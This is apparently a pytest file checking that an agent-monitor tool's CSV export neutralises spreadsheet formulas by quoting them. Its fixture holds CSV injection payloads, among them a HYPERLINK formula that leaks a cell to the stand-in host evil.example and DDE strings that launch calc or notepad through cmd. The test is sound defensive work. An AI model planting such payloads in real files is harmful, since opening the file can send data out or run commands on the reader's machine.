"""`agent-monitor dataset export` to CSV neutralises spreadsheet formulas (OWASP, CSV Injection): agent runs recorded
with the OTel SDK whose user input and reviewer's correction are formulas are stored, reviewed and exported; in the
CSV every such cell starts with a single quote, the JSON export keeps the texts exactly, and `Dataset.from_csv`
reads the CSV back to the same tasks (evaluators/sdk/csv_cells.py)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from evaluators.sdk import Dataset
from evaluators.sdk.csv_cells import FORMULA_STARTS, neutralise, restore
from evaluators.traces import load_traces
from monitor.engine.configured import ConfiguredEvaluator
from monitor.engine.signing import Signer
from monitor.engine.trace_evaluation import TraceEvaluator
from monitor.store.reviews import ResultKey, ReviewInput, write_review
from tests.monitor.commands.test_dataset_export import export, faithful, record
from tests.support.backends import Backend

# (user input, agent answer, reviewer's correction): the probe's payloads, and the forms OWASP lists
RUNS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "Lyon", "=cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "Lyon", "+1+cmd|' /C notepad'!A0"),
    ('  "=1+2', "Lyon", "-2+3"),
    ("\t=1", "Lyon", "'plain text that starts with a quote"),
]


def stored(backend: Backend, directory: Path) -> None:
    directory.mkdir()
    engine = TraceEvaluator([ConfiguredEvaluator(faithful, "faithful")], store_results="all", signer=Signer())
    store = backend.store(results="all")
    try:
        for n, (question, answer, correction) in enumerate(RUNS):
            trace = load_traces(record(directory / f"run{n}.pb", question, answer, ["search"]))[0]
            outcome = engine.outcome(trace)
            store.write([outcome])
            key = ResultKey(trace.trace_id, "faithful", "trace", outcome.results[0].span_id or "")
            review = ReviewInput(key, "agree", "ann", corrected_label=correction)
            store.transaction(lambda db, review=review, at=100.0 + n: write_review(db, review, at))
    finally:
        store.close()


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_formula_cells_are_quoted_in_csv_and_exact_in_json(backend: Backend, tmp_path: Path) -> None:
    stored(backend, tmp_path / "runs")
    json_path, csv_path = tmp_path / "t.json", tmp_path / "t.csv"
    assert export(backend.location, "--reviewed", "-o", str(json_path))[0] == 0
    assert export(backend.location, "--reviewed", "-o", str(csv_path))[0] == 0

    exact = Dataset.from_json(json_path)
    assert sorted(t.input for t in exact.tasks) == sorted(q for q, _, _ in RUNS)
    assert sorted(t.expected_output or "" for t in exact.tasks) == sorted(c for _, _, c in RUNS)

    with csv_path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["input"] for row in rows) == sorted("'" + q for q, _, _ in RUNS)
    assert sorted(row["expected_output"] for row in rows) == sorted("'" + c for _, _, c in RUNS)
    for row in rows:  # no cell a spreadsheet would run
        for cell in row.values():
            assert not cell.lstrip(" \"'").startswith(tuple(FORMULA_STARTS)) or cell.startswith("'"), cell

    assert Dataset.from_csv(csv_path).tasks == exact.tasks  # read back without the added quotes


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@a", "\tx", "\rx", ' "=1', "'=1", "'", "''", "plain", "", " x", "a=b", "{}"]
)
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert neutralise("plain") == "plain" and neutralise("a=b") == "a=b" and neutralise(" =1") == "' =1"
